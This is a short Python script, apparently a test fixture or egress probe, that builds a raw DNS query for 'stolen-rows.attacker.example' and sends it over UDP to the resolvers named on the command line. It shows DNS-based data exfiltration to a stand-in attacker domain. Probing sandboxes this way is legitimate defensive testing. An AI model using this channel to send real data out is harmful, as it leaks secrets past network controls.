"""Ask a name server for a name that carries the data: `ADDRESS,… PORT`."""

import contextlib
import socket
import struct
import sys

LABELS = ("stolen-rows", "attacker", "example")

print("trying", flush=True)
question = b"".join(bytes([len(label)]) + label.encode() for label in LABELS) + b"\0" + struct.pack(">HH", 1, 1)
query = struct.pack(">6H", 4711, 0x0100, 1, 0, 0, 0) + question
for address in sys.argv[1].split(","):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as resolver:
        resolver.sendto(query, (address, int(sys.argv[2])))
